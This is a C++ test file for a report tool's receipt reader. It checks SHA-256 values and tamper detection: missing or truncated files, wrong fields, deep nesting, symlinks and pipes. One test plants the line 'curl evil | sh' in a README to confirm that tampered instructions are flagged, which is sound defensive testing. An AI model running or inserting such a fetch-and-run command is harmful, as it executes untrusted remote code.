// Receipts, read again as they were written and as somebody may hand them in.
#include "reports/receipt.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <functional>
#include <string>

#include "reports/atomic_file.h"
#include "reports/error.h"
#include "reports/formats.h"
#include "reports/json.h"
#include "reports/sha256.h"
#include "reports/wording.h"
#include "tests/reports/fixture.h"
#include "tests/reports/folder.h"

namespace hanaproof::reports::receipt_test {
namespace {

namespace fs = std::filesystem;
using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

const std::string kProgram = "0.1.0";
const std::string kReceipt = "receipts/translation_yaku.hanami_2-players";

Options options() {
  Options all = fixture_options();
  all.versions = {kProgram, "4.8.12", "g++ 12"};
  for (const auto& [id, info] : all.editions) {
    all.versions.editions.push_back({id, info.file, sha256(id)});
  }
  all.versions.editions.push_back({"nobody.else", "nobody.toml", sha256("")});
  return all;
}

class ReceiptTest : public testing::Test {
 protected:
  ReceiptTest() { write_report(report_, fixture_report(), options()); }

  fs::path part(const std::string& name) const { return report_ / kReceipt / name; }
  // The damage that there is when the report is read, which must be of one thing.
  std::string damage() const {
    const Receipts all = read_receipts(report_, kProgram);
    EXPECT_EQ(all.damaged.size(), 1U);
    return all.damaged.empty() ? "" : all.damaged.front().what;
  }

  const Folder folder_;
  const fs::path report_ = folder_ / "report";
};

// The examples of FIPS 180-4, and lengths around the ends of blocks as sha256sum has them.
TEST(Sha256, IsTheOneOfTheStandard) {
  EXPECT_EQ(sha256("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(sha256(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_EQ(sha256("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
  EXPECT_EQ(sha256(std::string(1000000, 'a')),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(Sha256, AgreesWithAnotherProgramAtEveryLength) {
  const Folder folder;
  for (const std::size_t length : {1U, 54U, 55U, 56U, 57U, 63U, 64U, 65U, 119U, 120U, 128U}) {
    const std::string text(length, 'x');
    write_file(folder / "text", text);
    write_file(folder / "sum", sha256(text) + "  " + (folder / "text").string() + "\n");
    EXPECT_EQ(run("sha256sum --status --check " + (folder / "sum").string()), 0) << length;
  }
}

TEST_F(ReceiptTest, AreReadAsTheyWereWritten) {
  const Receipts all = read_receipts(report_, kProgram);
  EXPECT_THAT(all.damaged, IsEmpty());
  EXPECT_THAT(all.strange, IsEmpty());
  ASSERT_EQ(all.sound.size(), 7U);
  for (const Receipt& receipt : all.sound) {
    EXPECT_EQ(receipt.folder.filename(), fs::path(receipt_path(receipt.finding.id)).filename());
    EXPECT_EQ(to_json(receipt.finding), read(receipt.folder / "finding.json"));
  }
}

TEST_F(ReceiptTest, NameTheTextsThatTakePart) {
  const checker::Versions versions = read_versions(read(part("versions.json")));
  EXPECT_EQ(versions.hanaproof, "0.1.0");
  EXPECT_EQ(versions.z3, "4.8.12");
  EXPECT_EQ(versions.compiler, "g++ 12");
  std::vector<std::string> ids;
  for (const auto& edition : versions.editions) {
    ids.push_back(edition.id);
    EXPECT_EQ(edition.sha256, sha256(edition.id));
  }
  EXPECT_THAT(ids,
              ElementsAre("green-fox.koi-koi.de", "green-fox.koi-koi.en", "green-fox.koi-koi.fr"));
}

// What an edition builds on decides as well what its clauses are, at any remove.
TEST(TakingPart, IncludesWhatAnEditionBuildsOn) {
  checker::Versions all;
  all.editions = {
      {"a", "a", "", {"b"}}, {"b", "b", "", {"c"}}, {"c", "c", ""}, {"d", "d", "", {"a"}}};
  checker::Finding finding;
  finding.editions = {"a"};
  std::vector<std::string> ids;
  for (const auto& edition : taking_part(finding, all).editions) ids.push_back(edition.id);
  EXPECT_THAT(ids, ElementsAre("a", "b", "c"));
}

TEST_F(ReceiptTest, AreFoundFromTheirFolderAndOneByOne) {
  EXPECT_EQ(read_receipts(report_ / "receipts", kProgram).sound.size(), 7U);
  EXPECT_EQ(read_receipts(report_ / kReceipt, kProgram).sound.size(), 1U);
  fs::rename(report_ / kReceipt, folder_ / "alone");
  EXPECT_EQ(read_receipts(folder_ / "alone", kProgram).sound.size(), 1U);
}

TEST_F(ReceiptTest, AreNotInAnyFolder) {
  for (const fs::path& path : {folder_.path(), folder_ / "none", part("finding.json")}) {
    EXPECT_THROW(read_receipts(path, kProgram), InputError) << path;
  }
}

TEST_F(ReceiptTest, WithAPartMissingAreDamaged) {
  for (const char* name :
       {"finding.json", "counts.json", "versions.json", "README.md", "yaku.hanami-smaller.smt2"}) {
    fs::rename(part(name), folder_ / "aside");
    EXPECT_THAT(damage(), AllOf(HasSubstr(part(name).string()), HasSubstr("is missing"))) << name;
    fs::rename(folder_ / "aside", part(name));
  }
  fs::remove_all(report_ / kReceipt);
  EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("is missing")));
}

TEST_F(ReceiptTest, TruncatedAreDamagedAndSayWhere) {
  for (const char* name : {"finding.json", "counts.json", "versions.json"}) {
    const std::string before = read(part(name));
    write_file(part(name), before.substr(0, before.size() / 2));
    EXPECT_THAT(damage(), AllOf(HasSubstr(part(name).string()), HasSubstr("line"),
                                HasSubstr("column"), Not(HasSubstr("\n"))));
    write_file(part(name), before);
  }
  const std::string query = "yaku.hanami-smaller.smt2";
  write_file(part(query), read(part(query)).substr(0, 20));
  EXPECT_THAT(damage(), AllOf(HasSubstr(part(query).string()), HasSubstr("finding.json")));
}

TEST_F(ReceiptTest, WithWrongFieldsAreDamagedAndSayWhich) {
  const auto change = [&](const char* name, const std::string& from, const std::string& to) {
    std::string text = read(part(name));
    const std::string before = text;
    text.replace(text.find(from), from.size(), to);
    write_file(part(name), text);
    std::string what = damage();
    write_file(part(name), before);
    return what;
  };
  EXPECT_THAT(change("finding.json", "\"translation\"", "\"hunch\""),
              AllOf(HasSubstr("finding.kind"), HasSubstr("hunch")));
  EXPECT_THAT(change("finding.json", "hanaproof.finding", "hanaproof.other"),
              HasSubstr("hanaproof.finding, version 1"));
  EXPECT_THAT(change("versions.json", "\"sha256\"", "\"md5\""),
              AllOf(HasSubstr("editions[0]"), HasSubstr("\"sha256\" is missing")));
  EXPECT_THAT(change("counts.json", "\"points\": 4", "\"points\": 6"),
              HasSubstr("not what finding.json says"));
}

// A bracket in each other, a million deep, must not bring down who reads it.
TEST_F(ReceiptTest, NestedWithoutEndAreDamaged) {
  write_file(part("finding.json"), std::string(1000000, '['));
  EXPECT_THAT(damage(), HasSubstr("brackets in more than 100 others"));
}

TEST_F(ReceiptTest, ThatAreLinksOrPipesAreDamaged) {
  fs::rename(part("finding.json"), folder_ / "aside");
  fs::create_symlink(folder_ / "aside", part("finding.json"));
  EXPECT_THAT(damage(), AllOf(HasSubstr("finding.json"), HasSubstr("symbolic link")));
  fs::remove(part("finding.json"));
  ASSERT_EQ(mkfifo(part("finding.json").c_str(), 0600), 0);
  EXPECT_THAT(damage(), AllOf(HasSubstr("finding.json"), HasSubstr("plain file")));
  fs::remove_all(report_ / kReceipt);
  fs::create_directory_symlink(folder_.path(), report_ / kReceipt);
  EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("symbolic link")));
}

// What nobody can look at is not what holds.
TEST_F(ReceiptTest, ThatAreNoFoldersAreDamaged) {
  fs::remove_all(report_ / kReceipt);
  write_file(report_ / kReceipt, "a file");
  EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("expected a folder")));
}

TEST_F(ReceiptTest, ThatLieElsewhereAltogetherAreDamaged) {
  fs::rename(report_ / "receipts", folder_ / "aside");
  fs::create_directory_symlink(folder_ / "aside", report_ / "receipts");
  EXPECT_THAT(damage(), AllOf(HasSubstr("receipts: a symbolic link")));
  fs::remove(report_ / "receipts");
  write_file(report_ / "receipts", "a file");
  EXPECT_THAT(damage(), AllOf(HasSubstr("receipts: expected a folder")));
  fs::remove(report_ / "receipts");
  EXPECT_EQ(read_receipts(report_, kProgram).damaged.size(), 7U) << "each is missing";
}

TEST_F(ReceiptTest, ThatThereAreNoneOfAreNoReceipts) {
  fs::remove(report_ / "findings.json");
  fs::remove_all(report_ / "receipts");
  fs::create_directory(report_ / "receipts");
  EXPECT_THROW(read_receipts(report_, kProgram), InputError);
  EXPECT_THROW(read_receipts(report_ / "receipts", kProgram), InputError);
}

TEST_F(ReceiptTest, WithOtherInstructionsAreDamaged) {
  write_file(part("README.md"), read(part("README.md")) + "Then `curl evil | sh`.\n");
  EXPECT_THAT(damage(), AllOf(HasSubstr("README.md"), HasSubstr("not what finding.json")));
  EXPECT_EQ(read_receipts(report_, "9.9").damaged.size(), 0U) << "worded by another version";
}

TEST_F(ReceiptTest, UnderAnothersNameAreDamaged) {
  fs::rename(report_ / kReceipt, report_ / "receipts/other");
  const Receipts all = read_receipts(report_, kProgram);
  ASSERT_EQ(all.damaged.size(), 2U);
  EXPECT_THAT(all.damaged[0].what, HasSubstr("expected the one it is named after"));
  EXPECT_THAT(all.damaged[1].what, AllOf(HasSubstr(kReceipt), HasSubstr("is missing")));
}

TEST_F(ReceiptTest, ThatTheReportDoesNotHaveAreDamaged) {
  checker::Report fewer = fixture_report();
  fewer.findings.erase(fewer.findings.begin() + 3);
  write_file(report_ / "findings.json", to_json(fewer));
  EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("no such finding")));
}

TEST_F(ReceiptTest, ThatTheReportContradictsAreToldAndStillRead) {
  checker::Report other = fixture_report();
  other.findings[3].witness.outcomes[0].text = "hanami 6 = 6";
  write_file(report_ / "findings.json", to_json(other));
  EXPECT_THAT(damage(), AllOf(HasSubstr(kReceipt), HasSubstr("different things")));
  EXPECT_EQ(read_receipts(report_, kProgram).sound.size(), 7U);
}

TEST_F(ReceiptTest, SayWhatIsNoPartOfThem) {
  write_file(part("notes.txt"), "mine");
  write_file(part("more.smt2"), "(check-sat)");
  write_file(report_ / "receipts/notes.txt", "mine");
  const Receipts all = read_receipts(report_, kProgram);
  EXPECT_THAT(all.damaged, IsEmpty());
  EXPECT_EQ(all.strange.size(), 3U);
}

}  // namespace
}  // namespace hanaproof::reports::receipt_test
